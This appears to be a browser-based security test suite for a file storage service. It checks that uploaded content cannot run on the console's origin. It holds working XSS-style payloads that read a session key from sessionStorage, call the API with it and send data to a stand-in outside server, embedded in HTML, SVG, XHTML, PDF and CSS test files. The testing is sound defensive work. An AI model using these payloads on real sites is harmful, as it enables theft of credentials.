/**
 * Content and the console have one origin, and the console keeps keys in its sessionStorage. So content must never act on
 * that origin, whoever uploaded it, however it is opened, and whatever page of the origin takes it in.
 */

import { createServer, get } from "node:http";
import type { Frame, Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { Strongroom } from "../../src/client/index.ts";
import { cases } from "../support/at-length.ts";
import { listen } from "../support/listen.ts";
import { noBrowser } from "../support/browser.ts";
import { browserScene } from "./browser-scene.ts";

const scene = browserScene();

/** What content would like to read: it stands in the sessionStorage of the tab. */
const SECRET = "the key of the tab";

/** Somebody's server. It notes all that it is asked for: whoever asks it has got out. */
const asked: string[] = [];
const elsewhere = createServer(({ url = "" }, response) => {
  asked.push(url);
  response.setHeader("Access-Control-Allow-Origin", "*").end("body { color: red }");
});
let away: string;

/**
 * What each file does if it is let: it takes the secret, asks the API with it, and tells whoever listens. It runs as a
 * script, as a module, in a page of XML and in every kind of worker.
 */
const attack = (name: string): string => `
  var told = { ran: "${name}", origin: self.origin };
  try { told.secret = sessionStorage.getItem("key"); } catch (error) { told.secret = error.name; }
  for (var to of [self.parent, self.opener, self.top]) try { to.postMessage(told, "*"); } catch {}
  if (typeof document === "undefined") {
    try { self.postMessage(told); } catch {}
    self.onconnect = (event) => event.ports[0].postMessage(told);
  } else document.title += " ${name} ran";
  fetch("/api/v1/vaults", { headers: { Authorization: "Bearer " + told.secret } }).catch(() => {});
  fetch("${away}/script-of-${name}").catch(() => {});
`;

/** What needs no script to reach out. */
const markup = (name: string): string =>
  `<img src="${away}/image-of-${name}"/><iframe src="${away}/frame-of-${name}"></iframe>` +
  `<link rel="stylesheet" href="${away}/style-of-${name}"/><object data="${away}/object-of-${name}"></object>`;

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const html = (name: string): string =>
  `<!doctype html><title>-</title>${markup(name)}<meta http-equiv="refresh" content="0;url=${away}/refresh-of-${name}">` +
  `<img src="x" onerror="document.title += ' ${name} ran'"><script>${attack(name)}</script>`;
const xhtml = (name: string): string =>
  `<html ${XHTML}><head><title>-</title></head><body>${markup(name)}<script>${attack(name)}</script></body></html>`;
const svg = (name: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" onload="document.title += ' ${name} ran'">` +
  `<image href="${away}/image-of-${name}"/><script>${attack(name)}</script></svg>`;
const pdf = (name: string): string =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${away}/pdf-of-${name}"))>>>>endobj\n` +
  "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n" +
  "trailer<</Root 1 0 R>>";
const css = (name: string): string =>
  `@import "${away}/import-of-${name}"; :root { --styled-by-${name}: 1; background: url(${away}/image-of-${name}) }`;
const mixed = (name: string): string => `--b\r\nContent-Type: text/html\r\n\r\n${html(name)}\r\n--b--\r\n`;

type Make = (name: string) => string;

/** Files that a browser opens as pages or runs, if it is let. Each is opened in every way in which there is a URL of it. */
const ACTIVE: Readonly<Record<string, readonly [type: string, make: Make]>> = {
  html: ["text/html", html],
  svg: ["image/svg+xml", svg],
  xhtml: ["application/xhtml+xml", xhtml],
  pdf: ["application/pdf", pdf],
  javascript: ["text/javascript", attack],
  quoted: ['text/plain;a=",text/html"', html],
};

/** Files that some browser might take for one of those. */
const DOUBTFUL: typeof ACTIVE = {
  text: ["text/plain", html],
  image: ["image/png", html],
  "video-in-xml": ["video/svg+xml", svg],
  xml: ["text/xml", xhtml],
  mixed: ["multipart/x-mixed-replace;boundary=b", mixed],
  unknown: ["unknown/unknown", html],
  css: ["text/css", css],
};

/** A way in which a browser comes to a file. */
type Way = "content" | "files" | "signed" | "delivery" | "cached delivery";
const WAYS: readonly Way[] = ["content", "files", "signed", "delivery", "cached delivery"];
/** Those that are tried: with a key, with a signed link, and as a cache has it. The others differ in their URL alone. */
const TRIED = cases<Way>(["content", "signed", "cached delivery"], ["files", "delivery"]);

interface Stored {
  readonly name: string;
  readonly url: string;
}

const files = new Map<Way, Stored[]>();

beforeAll(async () => {
  if (noBrowser) return;
  away = await listen(elsewhere);
  bare = await listen(stripping);
  const { url, secret_key } = scene.credentials;
  const vault = new Strongroom({ url, key: secret_key });
  const { token } = await vault.keys.create({ type: "delivery" });
  const stored = Object.entries({ ...ACTIVE, ...DOUBTFUL }).map(async ([name, [type, make]]) => {
    const path = { partition: "of", collection: "strangers", channel: name };
    // In a form no part may be multipart.
    const resumable = type.startsWith("multipart/");
    const asset = await vault.assets.upload(new File([make(name)], "file", { type }), path, { resumable });
    const [byId, byPath] = [vault.assets.url(asset, { token }), vault.assets.url(asset, { token, by: "path" })];
    const signed = vault.assets.createLink(asset.id);
    await (await fetch(byPath)).arrayBuffer();
    const urls: Record<Way, string> = {
      content: byId.replace(/\?.*/, "?"),
      files: byPath.replace(/\?.*/, "?"),
      signed: (await signed).url,
      delivery: byId,
      "cached delivery": byPath,
    };
    return { name, urls };
  });
  for (const { name, urls } of await Promise.all(stored)) {
    for (const way of name in ACTIVE ? WAYS : ["delivery" as const]) {
      files.set(way, [...(files.get(way) ?? []), { name, url: urls[way] }]);
    }
  }
});

afterAll(() => {
  for (const server of [elsewhere, stripping]) {
    server.close();
    server.closeAllConnections();
  }
});

/**
 * The server as it would be without its guards: it never hears what a page wants a file for, and the headers that hold a
 * file back are taken away.
 */
const stripping = createServer((request, response) => {
  const headers = Object.entries(request.headers).filter(([name]) => !name.startsWith("sec-fetch-"));
  const { url } = scene.credentials;
  get(url + (request.url ?? ""), { headers: { ...Object.fromEntries(headers), host: new URL(url).host } }, (answer) => {
    const guards = ["content-security-policy", "content-disposition", "x-content-type-options"];
    const isContent = request.url?.startsWith("/api/");
    const rest = Object.entries(answer.headers).filter(([name]) => !isContent || !guards.includes(name));
    response.writeHead(answer.statusCode ?? 500, Object.fromEntries(rest));
    answer.pipe(response);
  });
});
let bare: string;

/** Opens a page of the origin, with the secret in its storage, and runs `work` with it. */
const atOrigin = <T>(
  origin: string,
  way: Way,
  work: (page: Page, of: readonly Stored[]) => Promise<T>,
  path = "/healthz",
): Promise<T> =>
  scene.withPage(async (page) => {
    const { url, secret_key } = scene.credentials;
    // The page of health has no policy of its own. So nothing but what comes with the file stands in the way.
    await page.goto(origin + path);
    await page.evaluate(`sessionStorage.setItem("key", "${SECRET}")`);
    // A browser sends no key by itself, but with an extension it might.
    const hasKey = way === "content" || way === "files";
    await page.context().setExtraHTTPHeaders(hasKey ? { Authorization: `Bearer ${secret_key}` } : {});
    return work(page, files.get(way)?.map((file) => ({ ...file, url: file.url.replace(url, origin) })) ?? []);
  });

/** Runs in a page: takes files in, one after the other, and resolves to what of them has acted. */
const TAKE_IN = `async (files) => {
  const root = document.documentElement;
  const add = (tag, set) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), set);
    element.onload = element.onerror = () => resolve(false);
    root.append(element);
  });
  // A shared worker whose script is broken says nothing at all. A script either runs, or is refused and says so.
  const answers = (name, worker, port = worker) => new Promise((resolve) => {
    port.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
    setTimeout(resolve, name === "javascript" ? 20000 : 1000, false);
  });
  const ways = {
    script: (src) => add("script", { src }),
    // What the browser has kept of an answer to somebody who only reads.
    "kept script": (src) => fetch(src).then((answer) => answer.text()).then(() => add("script", { src })),
    module: (src) => import(src).then(() => true),
    image: (src) => add("img", { src }),
    stylesheet: async (href, name) => {
      await add("link", { rel: "stylesheet", href });
      return getComputedStyle(root).getPropertyValue("--styled-by-" + name) !== "";
    },
    worker: (url, name) => answers(name, new Worker(url)),
    "module worker": (url, name) => answers(name, new Worker(url, { type: "module" })),
    "shared worker": (url, name) => {
      const worker = new SharedWorker(url);
      return answers(name, worker, worker.port);
    },
    "service worker": (url) => navigator.serviceWorker.register(url).then((made) => made.unregister()).then(() => true),
  };
  const acted = [];
  await Promise.all(files.map(async ({ name, url }) => {
    for (const [way, take] of Object.entries(ways)) {
      const acts = await take(url + "&_=" + way, name).catch(() => false);
      if (acts || document.title.includes(name + " ran")) acted.push(name + ": " + way);
      document.title = document.title.replaceAll(name + " ran", "");
    }
  }));
  return acted;
}`;

/** Runs in a page: puts each file into frames, by URLs that it resolves to, and notes who calls. */
const FRAME = `(files) => {
  self.called = new Set();
  addEventListener("message", ({ data }) => called.add(data.ran + ": frame, which read " + data.secret));
  return files.flatMap(({ url }) => Object.entries({ iframe: "src", object: "data", embed: "src" }).map(([tag, of]) => {
    const framed = url + "&_=" + tag;
    document.body.append(Object.assign(document.createElement(tag), { [of]: framed }));
    return framed;
  }));
}`;

/** Runs in a page or in a frame: what a script in it could reach. */
const REACH = `(async () => {
  const reached = (work) => Promise.resolve().then(work).then(() => "reached", ({ name }) => name);
  return {
    title: document.title,
    origin: self.origin,
    storage: await reached(() => sessionStorage.getItem("key")),
    api: await reached(() => fetch("/healthz", { credentials: "include" })),
  };
})()`;

/** What a page can do that is content: nothing. It has no origin to act in. */
const POWERLESS = {
  title: expect.not.stringContaining(" ran") as string,
  origin: "null",
  storage: "SecurityError",
  api: "TypeError",
};

/** What each of these pages and frames can do, once it is there, if it is content that has been opened. */
const reachOf = (pages: readonly (Page | Frame)[]): Promise<unknown[]> =>
  Promise.all(
    pages
      .filter((page) => page.url().includes("/api/v1/"))
      .map(async (page) => {
        await page.waitForLoadState();
        // What has gone on to another page has acted.
        return page.evaluate(REACH).catch(({ message }: Error) => message);
      }),
  );

/** Takes files in by every element and call that there is. Resolves to what has acted, and to what frames can do. */
async function takenIn(page: Page, of: readonly Stored[]): Promise<{ acted: string[]; reach: unknown[] }> {
  const ended = new Set<string>();
  page.on("download", (download) => ended.add(download.url()));
  page.on("framenavigated", (frame) => ended.add(frame.url()));
  const acted = await page.evaluate<string[]>(`(${TAKE_IN})(${JSON.stringify(of)})`);
  const framed = await page.evaluate<string[]>(`(${FRAME})(${JSON.stringify(of)})`);
  await expect.poll(() => framed.filter((url) => !ended.has(url))).toEqual([]);
  const reach = await reachOf(page.frames().slice(1));
  return { acted: [...acted, ...(await page.evaluate<string[]>("[...called]"))], reach };
}

it.each(TRIED)("%s: a page of the origin takes files in, and nothing of them acts", async (way) => {
  const { acted, reach } = await atOrigin(scene.credentials.url, way, takenIn);
  expect(acted).toEqual([]);
  expect(reach.length).toBeGreaterThan(0);
  expect(reach).toEqual(reach.map(() => POWERLESS));
  expect(asked).toEqual([]);
});

/** Resolves once a page has gone to a file, or has saved it. What it opened itself may be saved in its name. */
const ended = (page: Page, own = /_=tab/): Promise<unknown> =>
  Promise.any([
    page.waitForURL(own, { waitUntil: "commit" }),
    page.waitForEvent("download", (download) => own.test(download.url())),
    page.waitForEvent("close"),
  ]);

/** Opens files as pages, in the same tab and in others that it opens. Resolves to what they can do. */
async function openedAsPages(page: Page, of: readonly Stored[]): Promise<unknown[]> {
  const [home, popups] = [page.url(), [] as Promise<Page>[]];
  page.on("popup", (popup) => popups.push(ended(popup).then(() => popup)));
  await page.evaluate(`for (const url of ${JSON.stringify(of.map(({ url }) => `${url}&_=tab`))}) window.open(url)`);
  await expect.poll(() => popups.length).toBe(of.length);
  const others = await Promise.all(popups);
  const reach = await reachOf(others);
  await Promise.all(others.map((other) => other.close()));
  for (const { name, url } of of) {
    const end = ended(page, new RegExp(`_=${name}$`));
    await page.evaluate(`void setTimeout(() => { location.href = ${JSON.stringify(`${url}&_=${name}`)}; })`);
    await end;
    reach.push(...(await reachOf([page])));
    if (page.url() !== home) await page.goto(home);
  }
  return reach;
}

it.each(TRIED)("%s: a page of the origin opens files as pages, and they can do nothing", async (way) => {
  const reach = await atOrigin(scene.credentials.url, way, openedAsPages);
  expect(reach.length).toBeGreaterThan(0);
  expect(reach).toEqual(reach.map(() => POWERLESS));
  expect(asked).toEqual([]);
});

/** What must have acted where nothing holds it back, or the tests above would find nothing. */
const ACTS = [
  ...["script", "kept script", "module", "worker", "module worker", "shared worker", "service worker"].map(
    (way) => `javascript: ${way}`,
  ),
  "css: stylesheet",
  ...["html", "svg", "xhtml"].map((name) => `${name}: frame, which read ${SECRET}`),
];

it("without the guards of the server, the same files act", async () => {
  const { acted } = await atOrigin(bare, "delivery", (page, of) =>
    takenIn(
      page,
      of.filter(({ name }) => ACTS.some((act) => act.startsWith(`${name}:`))),
    ),
  );
  expect(acted.toSorted()).toEqual(ACTS.toSorted());
  await expect.poll(() => asked).toContain("/script-of-html");
});

it.each(["/", "/docs/"])("without the guards of the server, the page at %s still takes nothing in", async (path) => {
  const acted = await atOrigin(
    bare,
    "delivery",
    (page, of) => {
      const able = of.filter(({ name }) => name === "javascript" || name === "css");
      return page.evaluate<string[]>(`(${TAKE_IN})(${JSON.stringify(able)})`);
    },
    path,
  );
  expect(acted).toEqual([]);
});
